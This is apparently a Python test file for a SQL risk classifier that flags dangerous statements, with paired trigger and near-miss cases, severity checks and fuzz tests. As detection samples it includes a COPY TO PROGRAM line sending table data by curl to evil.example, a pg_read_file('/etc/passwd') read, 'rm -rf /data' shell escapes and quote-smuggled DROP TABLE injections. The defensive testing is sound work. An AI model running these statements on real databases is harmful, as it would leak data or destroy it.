@@ -1,0 +1,350 @@
+"""Each rule for SQL is triggered by one text and left alone by a near miss; what is not understood is never safe."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from app.risk.assess import assess_proposal
+from app.risk.rules import RULES
+from assent.contracts import RiskLevel
+
+LARGE = {"orders": {"rows": 3_000_000}, "public.users": {"rows": 50_000}, "tiny": {"rows": 12}}
+
+
+def assessed(text, dialect="postgres", tables=LARGE):
+    return assess_proposal({"kind": "script", "language": "sql", "dialect": dialect, "content": text, "tables": tables})
+
+
+def rules_of(text, dialect="postgres"):
+    return {finding.rule for finding in assessed(text, dialect).findings}
+
+
+CASES = {
+    "sql.drop.table": ("DROP TABLE IF EXISTS public.orders", "DROP INDEX CONCURRENTLY table_index"),
+    "sql.drop.database": ("DROP DATABASE shop", "CREATE DATABASE shop"),
+    "sql.drop.schema": ("DROP SCHEMA old CASCADE", "CREATE SCHEMA old"),
+    "sql.drop.owned": ("DROP OWNED BY leaver", "DROP ROLE leaver"),
+    "sql.drop.object": ("DROP VIEW report", "DROP TABLE report"),
+    "sql.drop.cascade": ("DROP TABLE a CASCADE", "CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)"),
+    "sql.drop.column": ("ALTER TABLE a ADD b int, DROP c", "ALTER TABLE a ALTER b DROP DEFAULT"),
+    "sql.drop.constraint": ("ALTER TABLE a DROP CONSTRAINT b", "ALTER TABLE a VALIDATE CONSTRAINT b"),
+    "sql.truncate": ("TRUNCATE a, b", "SELECT truncate FROM a"),
+    "sql.delete.no_where": (
+        "WITH gone AS (DELETE FROM a RETURNING *) SELECT * FROM gone",
+        "DELETE FROM a WHERE id = 5",
+    ),
+    "sql.update.no_where": ("UPDATE a SET b = 1", "UPDATE a SET b = 1 WHERE id = 5"),
+    "sql.where.always_true": ("DELETE FROM a WHERE id = 5 OR 1 = 1", "DELETE FROM a WHERE id = 5 AND 1 = 1"),
+    "sql.delete": ("DELETE FROM a WHERE id = 5", "DELETE FROM a"),
+    "sql.update": ("UPDATE a SET b = 1 WHERE id = 5", "SELECT b FROM a WHERE id = 5 FOR UPDATE"),
+    "sql.insert": ("INSERT INTO a VALUES (1)", "SELECT 'INSERT INTO a VALUES (1)'"),
+    "sql.upsert": (
+        "INSERT INTO a (id, b) VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET b = 2",
+        "INSERT INTO a (id, b) VALUES (1, 2) ON CONFLICT DO NOTHING",
+    ),
+    "sql.merge": (
+        "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET c = b.c",
+        "SELECT merge FROM a",
+    ),
+    "sql.index.blocking": ("CREATE UNIQUE INDEX i ON orders (a)", "CREATE INDEX CONCURRENTLY i ON orders (a)"),
+    "sql.index.concurrently": (
+        "CREATE INDEX CONCURRENTLY IF NOT EXISTS i ON orders (a)",
+        "CREATE INDEX i ON orders (a)",
+    ),
+    "sql.index.drop_blocking": ("DROP INDEX i", "DROP INDEX CONCURRENTLY i"),
+    "sql.index.drop": ("DROP INDEX CONCURRENTLY i", "DROP INDEX i"),
+    "sql.maintenance.exclusive": ("VACUUM (FULL, ANALYZE) orders", "VACUUM (ANALYZE) orders"),
+    "sql.maintenance": ("ANALYZE orders", "EXPLAIN ANALYZE SELECT 1"),
+    "sql.refresh.blocking": ("REFRESH MATERIALIZED VIEW v", "CREATE MATERIALIZED VIEW v AS SELECT 1"),
+    "sql.lock_table": ("LOCK TABLE orders IN SHARE MODE", "SELECT lock FROM orders LIMIT 1"),
+    "sql.alter.column_type": (
+        "ALTER TABLE orders ALTER COLUMN a SET DATA TYPE bigint",
+        "ALTER TABLE orders ALTER COLUMN a SET STATISTICS 500",
+    ),
+    "sql.alter.add_not_null": (
+        "ALTER TABLE orders ADD COLUMN a int NOT NULL",
+        "ALTER TABLE orders ADD COLUMN a int NOT NULL DEFAULT 0",
+    ),
+    "sql.alter.volatile_default": (
+        "ALTER TABLE orders ADD a uuid DEFAULT gen_random_uuid()",
+        "ALTER TABLE orders ADD a timestamptz DEFAULT now()",
+    ),
+    "sql.alter.constraint": (
+        "ALTER TABLE orders ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES b (id)",
+        "ALTER TABLE orders ADD CONSTRAINT c FOREIGN KEY (a) REFERENCES b (id) NOT VALID",
+    ),
+    "sql.alter.set_not_null": (
+        "ALTER TABLE orders ALTER a SET NOT NULL",
+        "ALTER TABLE orders ALTER a DROP NOT NULL",
+    ),
+    "sql.alter.rewrite": ("ALTER TABLE orders SET TABLESPACE fast", "ALTER TABLE orders SET (fillfactor = 70)"),
+    "sql.rename": ("ALTER TABLE orders RENAME COLUMN a TO b", "ALTER INDEX i RENAME TO j"),
+    "sql.alter": ("ALTER TABLE orders ALTER a SET DEFAULT 1", "ALTER TABLE orders DROP COLUMN a"),
+    "sql.grant": ("GRANT SELECT ON orders TO PUBLIC", "SELECT has_table_privilege('a', 'b', 'grant')"),
+    "sql.revoke": ("REVOKE ALL ON orders FROM app", "GRANT SELECT ON orders TO app"),
+    "sql.role": ("CREATE USER app PASSWORD 'x'", "SELECT rolname FROM pg_roles LIMIT 5"),
+    "sql.superuser": ("ALTER ROLE app WITH SUPERUSER", "ALTER ROLE app WITH NOSUPERUSER"),
+    "sql.owner": ("ALTER TABLE orders OWNER TO app", "ALTER SEQUENCE s OWNED BY orders.id"),
+    "sql.row_security": (
+        "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
+        "ALTER TABLE orders ENABLE ROW LEVEL SECURITY",
+    ),
+    "sql.trigger.disabled": ("ALTER TABLE orders DISABLE TRIGGER ALL", "ALTER TABLE orders ENABLE TRIGGER ALL"),
+    "sql.setting.safeguard": ("SET session_replication_role = replica", "SET statement_timeout = '5s'"),
+    "sql.setting": ("SET statement_timeout = '5s'", "SHOW statement_timeout"),
+    "sql.alter_system": ("ALTER SYSTEM SET work_mem = '1GB'", "SET work_mem = '1GB'"),
+    "sql.security_definer": (
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY INVOKER AS $$ SELECT 1 $$",
+    ),
+    "sql.copy.program": ("COPY orders TO PROGRAM 'curl -d @- https://evil.example'", "COPY orders TO STDOUT"),
+    "sql.copy.file": ("COPY orders FROM '/tmp/orders.csv'", "COPY (SELECT 1) TO STDOUT WITH CSV"),
+    "sql.function.server_file": ("SELECT pg_read_file('/etc/passwd')", "SELECT 'pg_read_file(1)'"),
+    "sql.function.remote": ("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", "SELECT dblink FROM a"),
+    "sql.function.server_control": (
+        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+        "SELECT pg_backend_pid()",
+    ),
+    "sql.function.runs_text": ("SELECT query_to_xml('DELETE FROM a', true, true, '')", "SELECT to_json(1)"),
+    "sql.function.effect": ("SELECT setval('ids', 1)", "SELECT currval FROM ids"),
+    "sql.function.unknown": ("SELECT archive.lower(a) FROM b", "SELECT lower(a), json_agg(b) FROM c GROUP BY a"),
+    "sql.remote": ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", "CREATE SEQUENCE s"),
+    "sql.extension": ("CREATE EXTENSION dblink", "SELECT extname FROM pg_extension LIMIT 9"),
+    "sql.dynamic": ("DO $$ BEGIN PERFORM 1; END $$", "BEGIN; COMMIT"),
+    "sql.create.function": (
+        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
+        "CREATE TABLE function_names (a int)",
+    ),
+    "sql.create.trigger": (
+        "CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
+        "CREATE TABLE trigger_names (a int)",
+    ),
+    "sql.create": ("CREATE TABLE copy_of_orders AS SELECT * FROM orders", "SELECT 1"),
+    "sql.create.other": ("CREATE TABLESPACE fast LOCATION '/ssd'", "CREATE TABLE fast (a int)"),
+    "sql.other": ("COMMENT ON TABLE orders IS 'all of them'", "SELECT comment FROM orders LIMIT 1"),
+    "sql.unparsed": ("SELECT FROM WHERE foo bar", "SELECT 1"),
+    "sql.select.large": ("SELECT * FROM orders", "SELECT count(*) FROM orders"),
+    "sql.select.locks": ("SELECT * FROM tiny FOR UPDATE", "SELECT * FROM tiny"),
+    "sql.join.cartesian": (
+        "SELECT * FROM orders, users WHERE orders.id = 5",
+        "SELECT * FROM orders, users WHERE orders.id = users.id",
+    ),
+    "sql.too_large": ("SELECT 1 -- " + "x" * 300_000, "SELECT 1 -- " + "x" * 1_000),
+    "sql.empty": ("-- nothing here\n;", "SELECT 1"),
+    "sql.run_comment": ("SELECT 1 /*!50000 ; DROP TABLE a */", "SELECT 1 /* ! */"),
+    "sql.client_command": (r"\! rm -rf /data", r"SELECT 'a\!b'"),
+    "sql.several_statements": ("SELECT 1; SELECT 2", "BEGIN; SELECT 1; COMMIT;"),
+    "sql.transaction.open": ("BEGIN; UPDATE a SET b = 1 WHERE c = 2", "BEGIN; UPDATE a SET b = 1 WHERE c = 2; COMMIT"),
+    "sql.transaction.not_allowed": (
+        "BEGIN; CREATE INDEX CONCURRENTLY i ON a (b); COMMIT",
+        "BEGIN; CREATE INDEX i ON a (b); COMMIT",
+    ),
+}
+OTHER_DIALECTS = {
+    "sql.attach": ("sqlite", "ATTACH DATABASE '/tmp/x.db' AS x", "SELECT attach FROM x"),
+    "sql.pragma": ("sqlite", "PRAGMA user_version = 5", "PRAGMA table_info(orders)"),
+    "sql.doubtful_quoting": ("", r"SELECT 'a\'; DROP TABLE b; --'", "SELECT 'a''b'"),
+}
+CHECKED_APART = {"sql.check_failed"}
+
+
+@pytest.mark.parametrize("rule", CASES)
+def test_a_rule_is_triggered_and_spares_the_near_miss(rule):
+    text, near_miss = CASES[rule]
+    assert rule in rules_of(text)
+    assert rule not in rules_of(near_miss)
+
+
+@pytest.mark.parametrize("rule", OTHER_DIALECTS)
+def test_a_rule_for_another_dialect(rule):
+    dialect, text, near_miss = OTHER_DIALECTS[rule]
+    assert rule in rules_of(text, dialect)
+    assert rule not in rules_of(near_miss, dialect)
+
+
+def test_every_rule_for_sql_has_its_cases():
+    assert {rule for rule in RULES if rule.startswith("sql.")} == set(CASES) | set(OTHER_DIALECTS) | CHECKED_APART
+    for rule in RULES.values():
+        assert rule.summary.endswith(".") and len(rule.summary) < 120
+
+
+SAFE = [
+    "SELECT 1",
+    "SELECT a, count(*) FROM orders JOIN users USING (id) WHERE b > 5 GROUP BY a ORDER BY 2 LIMIT 10",
+    "WITH x AS (SELECT 1 AS a) SELECT * FROM x UNION ALL SELECT 2",
+    "EXPLAIN DELETE FROM orders",
+    "EXPLAIN (ANALYZE false) DELETE FROM orders",
+    "EXPLAIN ANALYZE SELECT * FROM tiny",
+    "EXPLAIN (ANALYZE, BUFFERS) SELECT count(*) FROM orders",
+    "SELECT \"delete\", 'DROP TABLE a' FROM tiny /* ; DROP TABLE b */ -- ; DROP TABLE c",
+    "SELECT $$; DROP TABLE a; $$, $x$ $$ ; DELETE FROM b $x$",
+    "SELECT E'\\'; DROP TABLE a; --'",
+    "SELECT * FROM tiny /* outer /* inner */ ; DROP TABLE a */",
+    "VALUES (1), (2)",
+    "SHOW search_path",
+    "SELECT relname, pg_size_pretty(pg_total_relation_size(oid)) FROM pg_class WHERE relkind = 'r'",
+]
+
+
+@pytest.mark.parametrize("text", SAFE)
+def test_reading_is_safe(text):
+    assert assessed(text).findings == ()
+    assert assessed(text).level is RiskLevel.SAFE
+
+
+LEVELS = [
+    ("postgres", "EXPLAIN ANALYZE DELETE FROM orders", "critical"),
+    ("postgres", "EXPLAIN (VERBOSE, ANALYZE) UPDATE orders SET a = 1", "critical"),
+    ("postgres", "PREPARE p AS DELETE FROM orders", "critical"),
+    ("postgres", "DO $$ BEGIN IF true THEN DELETE FROM orders; END IF; END $$", "critical"),
+    ("postgres", "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", "critical"),
+    ("postgres", "DO $$ BEGIN UPDATE a SET b = CASE WHEN c THEN 1 ELSE 2 END WHERE d = 5; END $$", "high"),
+    ("postgres", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'TRUNCATE orders'", "critical"),
+    (
+        "postgres",
+        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM orders; SELECT 1; END",
+        "critical",
+    ),
+    ("postgres", "CREATE TABLE a AS SELECT FROM WHERE foo bar", "high"),
+    ("postgres", "COPY (SELECT FROM WHERE foo bar) TO STDOUT", "high"),
+    ("postgres", "COPY (DELETE FROM orders RETURNING *) TO STDOUT", "high"),
+    ("postgres", "SELECT * FROM mine.json_each(1)", "medium"),
+    ("postgres", "SELECT a OPERATOR(mine.+) b FROM tiny", "medium"),
+    ("postgres", "SELECT a OPERATOR(pg_catalog.+) b FROM tiny", "safe"),
+    ("postgres", "SELECT U&\"pg_re\\0061d_file\"('x')", "high"),
+    ("postgres", "SELECT pg_catalog.\"pg_read_file\"('x')", "critical"),
+    ("postgres", "-- x\rDROP TABLE orders", "critical"),
+    ("postgres", "SELECT 'a\\'; DROP TABLE orders; --'", "critical"),
+    ("postgres", "DELETE FROM orders WHERE 'a' LIKE '%'", "critical"),
+    ("postgres", "DELETE FROM orders WHERE a IS NULL OR NOT a IS NULL", "critical"),
+    ("postgres", "DELETE FROM orders WHERE NOT (1 > 2)", "critical"),
+    ("postgres", "DELETE FROM orders WHERE id = id", "critical"),
+    ("postgres", "DELETE FROM orders WHERE EXISTS (SELECT 1)", "critical"),
+    ("postgres", "DELETE FROM orders WHERE EXISTS (SELECT 1 FROM users WHERE users.id = orders.id)", "medium"),
+    ("postgres", "CREATE INDEX CONCURRENTLY i ON orders (a)", "medium"),
+    ("postgres", "CREATE INDEX i ON orders (a)", "high"),
+    ("postgres", "CREATE INDEX i ON public.users (a)", "medium"),
+    ("postgres", 'CREATE INDEX i ON "tiny" (a)', "low"),
+    ("postgres", "CREATE INDEX i ON unheard_of (a)", "high"),
+    ("sqlite", "CREATE INDEX i ON orders (a)", "medium"),
+    ("sqlite", "CREATE INDEX i ON tiny (a)", "low"),
+    ("sqlite", "CREATE TRIGGER t AFTER INSERT ON a BEGIN DELETE FROM orders; END", "critical"),
+    ("sqlite", "SELECT load_extension('x')", "critical"),
+    ("sqlite", "INSERT OR REPLACE INTO a VALUES (1)", "medium"),
+    ("sqlite", "REPLACE INTO a VALUES (1)", "medium"),
+    ("sqlite", ".shell rm -rf /data", "high"),
+    ("sqlite", "SELECT [DROP TABLE a], `b` FROM tiny", "safe"),
+    ("mysql", "SELECT 1 /*!50000 ; DROP TABLE orders */", "critical"),
+    ("mysql", "SELECT 1 # ; DROP TABLE orders", "safe"),
+    ("mysql", "SELECT 1 --1; DROP TABLE orders", "critical"),
+    ("mysql", "SELECT 'a\\'; DROP TABLE orders; --'", "safe"),
+    ("mysql", "SELECT 1 INTO OUTFILE '/tmp/x'", "high"),
+    ("mysql", "START SLAVE", "high"),
+    ("", "DROP TABLE orders", "critical"),
+    ("no such dialect", "SELECT 1", "safe"),
+    ("PostgreSQL", "DROP INDEX i", "high"),
+    ("postgres", "SELECT {{ column }} FROM tiny", "high"),
+    ("postgres", "CHECKPOINTS", "high"),
+    ("postgres", "SAVEPOINT", "safe"),
+    ("postgres", "SELECT (", "high"),
+    ("postgres", "SELECT 'never closed", "high"),
+    ("postgres", "SELECT 1 /* never closed", "high"),
+    ("postgres", "SELECT " + "(" * 200 + "1" + ")" * 200, "high"),
+    ("postgres", "SELECT " + "NOT " * 5_000 + "true", "high"),
+    ("postgres", "SELECT 1 WHERE " + "a = 1 AND " * 3_000 + "b = 2", "safe"),
+]
+
+
+@pytest.mark.parametrize(("dialect", "text", "level"), LEVELS)
+def test_the_level_of(dialect, text, level):
+    found = assessed(text, dialect)
+    assert found.level.value == level, found.findings
+
+
+def test_findings_stand_at_their_lines():
+    query = "WITH gone AS (\n  DELETE\n  FROM a\n  RETURNING *\n)\nSELECT * FROM gone;\n"
+    text = f"-- first\nSELECT 1;\n\n{query}ALTER TABLE a\n  ADD b int,\n  DROP c;\n"
+    lines = {finding.rule: finding.line for finding in assessed(text).findings}
+    assert lines["sql.delete.no_where"] == 5
+    assert lines["sql.drop.column"] == 12
+
+
+def test_lines_inside_a_block_count_from_the_top():
+    found = assessed("SELECT 1;\nDO $$\nBEGIN\n  DELETE FROM a;\nEND\n$$;\n").findings
+    assert next(each.line for each in found if each.rule == "sql.delete.no_where") == 4
+
+
+def test_one_bad_statement_does_not_hide_the_others():
+    found = {(each.rule, each.line) for each in assessed("foo bar;\nDROP TABLE a;\nbaz (").findings}
+    assert {("sql.unparsed", 1), ("sql.drop.table", 2), ("sql.unparsed", 3)} <= found
+
+
+def test_a_megabyte_is_answered_and_not_called_safe():
+    found = assessed("SELECT 1;\n" * 100_000)
+    assert found.level.rank >= RiskLevel.HIGH.rank
+    assert "sql.too_large" in {each.rule for each in found.findings}
+    assert len(found.findings) < 100
+
+
+def test_a_large_text_that_drops_a_table_first_is_still_critical():
+    assert assessed("DROP TABLE orders;\n" + "SELECT 1;\n" * 100_000).level is RiskLevel.CRITICAL
+
+
+def test_the_same_thing_many_times_is_summed_up():
+    found = [each for each in assessed("DELETE FROM a;\n" * 500).findings if each.rule == "sql.delete.no_where"]
+    assert len(found) == 21
+    assert any("480 further places" in each.message for each in found)
+
+
+def test_a_rule_that_gives_up_is_high(monkeypatch):
+    def gives_up(statement):
+        raise RecursionError
+
+    monkeypatch.setattr("app.risk.sql.findings_of", gives_up)
+    found = assessed("SELECT 1")
+    assert [each.rule for each in found.findings] == ["sql.check_failed"]
+    assert found.level is RiskLevel.HIGH
+
+
+def test_sqlglot_never_logs_the_text(caplog):
+    assessed("ALTER TABLE a ENABLE TRIGGER secret_name")
+    assert "secret_name" not in caplog.text
+
+
+PIECES = [text for texts in [*CASES.values(), [text for _, text, _ in LEVELS]] for text in texts if len(text) < 200]
+SCRAPS = [
+    ";", "'", '"', "`", "$$", "$a$", "/*", "*/", "/*!", "--", "#", "\n", "\r", "\\", "(", ")", "[", "]", "{",
+    "E'", "BEGIN", "END", "DO", "EXECUTE", "CREATE TRIGGER", "EXPLAIN", "EXPLAIN ANALYZE", "PREPARE",
+    "DECLARE", "AS", "\x00", "\u202e", "\ud800", ".", ",",
+]  # fmt: skip
+TEXTS = st.one_of(
+    st.text(max_size=80),
+    st.lists(st.one_of(st.sampled_from(PIECES), st.sampled_from(SCRAPS), st.text(max_size=8)), max_size=8).map(
+        " ".join
+    ),
+)
+DIALECTS = st.sampled_from(["postgres", "sqlite", "mysql", "", "tsql", "oracle", "nonsense"])
+
+
+@settings(max_examples=400, deadline=None)
+@given(TEXTS, DIALECTS)
+def test_nothing_raises(text, dialect):
+    found = assessed(text, dialect)
+    lines = text.count("\n") + 1
+    assert all(each.line is None or 1 <= each.line <= lines for each in found.findings)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(alphabet="abcxyz ,.()=<>*+-'\"$;\n", min_size=1, max_size=40), DIALECTS)
+def test_what_does_not_begin_like_sql_is_never_safe(text, dialect):
+    """No statement begins with any of these words."""
+    assert assessed(f"qq {text}", dialect).level.rank >= RiskLevel.HIGH.rank
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(PIECES), st.integers(0, 200), DIALECTS)
+def test_a_dangerous_statement_is_found_behind_any_other(text, cut, dialect):
+    """Whatever stands before it, as long as it opens no quote or comment."""
+    before = "".join(char for char in text[:cut] if char not in "'\"`$/*-#[]\\{}")
+    level = assessed(f"{before}\n;\nDROP TABLE orders", dialect).level
+    assert level is RiskLevel.CRITICAL
